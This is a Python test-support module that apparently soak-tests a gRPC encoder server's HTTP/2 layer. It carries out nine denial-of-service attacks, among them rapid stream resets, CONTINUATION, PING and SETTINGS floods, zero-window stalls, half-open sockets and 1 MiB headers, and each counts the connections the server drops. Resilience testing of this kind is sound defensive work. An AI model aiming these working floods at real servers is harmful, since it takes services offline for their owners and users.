"""Attacks on the HTTP/2 layer of a server, 5 s each at scale 1.

Each attack returns how many connections the server ended itself.
"""

import struct
import time
from collections.abc import Callable
from random import Random

import numpy as np

from headwaiter_proto import encoder_pb2 as pb
from tests.support.soak.http2_frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
    grpc_headers,
    grpc_message,
    headers,
)

_PATH = "/headwaiter.v1.Encoder/Encode"
_FRAMES_PER_SEND = 50
# Seconds over which an attack of scale 1 is spread.
_ATTACK_S = 5.0


def _encode(sequences: int, tokens: int, *, hidden: bool = False) -> bytes:
    """Return a valid request as the payload of DATA frames."""
    ids = np.ones(sequences * tokens, "<i4").tobytes()
    message = pb.TokenSequences(dtype=pb.DATA_TYPE_INT32, data=ids, lengths=[tokens] * sequences)
    output = pb.OutputOptions(hidden=hidden, pooled=not hidden)
    return grpc_message(pb.EncodeRequest(tokens=message, output=output).SerializeToString())


_SMALL = _encode(1, 8)


def _call(stream: int, payload: bytes = _SMALL) -> bytes:
    """Return the frames of a call; a DATA frame holds at most 16 KiB."""
    parts = [payload[start : start + 16_000] for start in range(0, len(payload), 16_000)]
    data = [frame(DATA, END_STREAM * (part is parts[-1]), stream, part) for part in parts]
    return frame(HEADERS, END_HEADERS, stream, grpc_headers(_PATH)) + b"".join(data)


def _flood(address: str, frames: int, make: Callable[[int], bytes], scale: float) -> int:
    """Send frames evenly for some seconds, on a new connection whenever the server ends one."""
    connection, ended, first, started_s = Connection(address), 0, 0, time.monotonic()
    frames = int(frames * scale)
    for number in range(0, frames, _FRAMES_PER_SEND):
        connection.send(b"".join(make(each - first) for each in range(number, number + _FRAMES_PER_SEND)))
        if connection.closed:
            connection.close()
            connection, ended, first = Connection(address), ended + 1, number + _FRAMES_PER_SEND
        _pace(started_s, number / frames, scale)
    connection.close()
    return ended


def _pace(started_s: float, done: float, scale: float) -> None:
    """Sleep until the time at which this share of an attack is due."""
    time.sleep(max(0.0, started_s + done * _ATTACK_S * scale - time.monotonic()))


def _hold(connections: list[Connection], scale: float) -> int:
    """Keep connections open until the end of the attack, close them, and return how many the server has ended."""
    time.sleep(_ATTACK_S * scale)
    for connection in connections:
        connection.send(b"")
        connection.close()
    return sum(connection.closed for connection in connections)


def rapid_resets(address: str, scale: float) -> int:
    """Start 10,000 calls, and reset each: half of them at once, the others when the server may have started them."""
    cancel = struct.pack(">I", CANCEL)

    def call_and_reset(n: int) -> bytes:
        reset = frame(RST_STREAM, 0, 2 * max(0, n - n % 2 * _FRAMES_PER_SEND) + 1, cancel)
        return _call(2 * n + 1) + reset

    return _flood(address, 10_000, call_and_reset, scale)


def many_connections(address: str, scale: float) -> int:
    """Send one call on each of 500 connections, and keep all connections open."""
    connections = [Connection(address) for _ in range(int(500 * scale))]
    for connection in connections:
        connection.send(_call(1))
    return _hold(connections, scale)


def zero_windows(address: str, scale: float) -> int:
    """Ask for 100 replies of 1.9 MB on connections that let the server send none of their bytes."""
    # A caller may send 64 KiB on a new connection before the server allows more.
    call, no_window = _call(1, _encode(250, 60, hidden=True)), struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    connections = [Connection(address, no_window) for _ in range(int(100 * scale))]
    for connection in connections:
        connection.send(call)
    return _hold(connections, scale)


def half_open(address: str, scale: float) -> int:
    """Open 200 sockets that stop before, inside and after the preface, inside a header, and inside a message."""
    starts = (b"", PREFACE[:10], PREFACE, PREFACE + frame(SETTINGS, 0, 0) + b"\0\0\x40\x01", None)
    connections = []
    for number in range(int(200 * scale)):
        start = starts[number % len(starts)]
        connection = Connection(address, preface=PREFACE if start is None else b"")
        head = frame(HEADERS, END_HEADERS, 1, grpc_headers(_PATH))
        connection.send(head + frame(DATA, 0, 1, _SMALL[:9]) if start is None else start)
        connections.append(connection)
    return _hold(connections, scale)


def oversized_headers(address: str, scale: float) -> int:
    """Send calls with 1 MiB of metadata in one header field."""
    block = grpc_headers(_PATH) + headers([("x-large", "a" * (1 << 20))])
    parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]

    def call(n: int) -> bytes:
        rest = [frame(CONTINUATION, END_HEADERS * (part is parts[-1]), 2 * n + 1, part) for part in parts[1:]]
        return frame(HEADERS, 0, 2 * n + 1, parts[0]) + b"".join(rest)

    ended, started_s, connections = 0, time.monotonic(), max(1, int(100 * scale))
    for number in range(connections):
        _pace(started_s, number / connections, scale)
        connection = Connection(address)
        connection.send(call(0))
        connection.send(_call(3))
        ended += connection.closed
        connection.close()
    return ended


def continuation_flood(address: str, scale: float) -> int:
    """Send 20,000 CONTINUATION frames of headers that never end."""
    part = frame(CONTINUATION, 0, 1, headers([("x-more", "a" * 1000)]))
    head = frame(HEADERS, 0, 1, grpc_headers(_PATH))
    return _flood(address, 20_000, lambda n: part if n else head, scale)


def ping_flood(address: str, scale: float) -> int:
    """Send 50,000 PING frames."""
    return _flood(address, 50_000, lambda n: frame(PING, 0, 0, struct.pack(">Q", n)), scale)


def settings_flood(address: str, scale: float) -> int:
    """Send 50,000 SETTINGS frames, each of which the server must acknowledge."""
    return _flood(address, 50_000, lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, n % 1000 + 1)), scale)


def random_frames(address: str, scale: float) -> int:
    """Send 5,000 frames of random types, flags, streams and bytes."""
    random = Random(0)

    def any_frame(_: int) -> bytes:
        stream = random.choice((0, 1, 2, 3, random.getrandbits(31)))
        return frame(
            random.randrange(12), random.getrandbits(8), stream, random.randbytes(random.choice((0, 4, 8, 50)))
        )

    return _flood(address, 5_000, any_frame, scale)


ATTACKS: tuple[Callable[[str, float], int], ...] = (
    rapid_resets,
    many_connections,
    zero_windows,
    half_open,
    oversized_headers,
    continuation_flood,
    ping_flood,
    settings_flood,
    random_frames,
)
